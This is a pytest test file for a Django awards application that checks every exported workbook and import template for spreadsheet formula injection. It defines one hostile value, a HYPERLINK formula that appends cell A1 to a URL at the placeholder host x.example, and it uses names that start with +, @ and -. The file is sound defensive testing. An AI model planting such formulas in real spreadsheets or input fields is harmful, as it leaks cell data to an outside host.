"""Every workbook the app sends writes text as text: a name, a title or a reason that starts
like a formula (= + - @) reaches the spreadsheet as typed and is never computed."""

from __future__ import annotations

import io
from decimal import Decimal

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from awards.services.nominations import nomination_create
from awards.services.scores import criterion_create
from tests.factories import AwardRulesFactory, AwardTypeFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào")'


def workbook_url_names() -> set[str]:
    """Return the URL names of every page that sends a workbook (exports and templates)."""
    names: set[str] = set()

    def walk(patterns, namespace: str = "") -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern) and (pattern.name or "").endswith(
                ("_export", "_template")
            ):
                names.add(namespace + pattern.name)

    walk(get_resolver().url_patterns)
    return names


@pytest.fixture
def hostile(world):
    """Give the world's names and records text that a spreadsheet would take for formulas."""
    unit = world.unit_m
    unit.short_name = unit.full_name = HOSTILE
    unit.save()
    section = criterion_create(bloc_year=world.bloc_year_1, title="+Phần A", max_points=Decimal(50))
    criterion_create(
        bloc_year=world.bloc_year_1, title="@Tiêu chí", max_points=Decimal(50), parent=section
    )
    AwardRulesFactory(province=world.province_a, from_year=2020, nomination_without_ballot=True)
    award_type = AwardTypeFactory(province=world.province_a, name="-Bằng khen")
    nomination_create(bloc_year=world.bloc_year_1, unit=unit, award_type=award_type, reason=HOSTILE)
    return world


# Who opens each workbook, and where.
EXPORTS = {
    "awards:score_export": lambda w: reverse("awards:score_export", args=[w.bloc_1.pk, 2025]),
    "awards:province_nominations_export": lambda w: reverse(
        "awards:province_nominations_export", args=[2025]
    ),
    "units:units_import_template": lambda w: reverse(
        "units:units_import_template", args=[w.province_a.code]
    ),
    "blocs:members_import_template": lambda w: reverse(
        "blocs:members_import_template", args=[w.bloc_1.pk, 2025]
    ),
}


def test_every_workbook_the_app_sends_is_listed_here():
    assert workbook_url_names() == set(EXPORTS)


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_cell_of_a_workbook_is_a_formula(name, hostile, board, client_for):
    response = client_for(board).get(EXPORTS[name](hostile))

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    if name.endswith("_export"):
        assert HOSTILE in [cell.value for cell in cells]
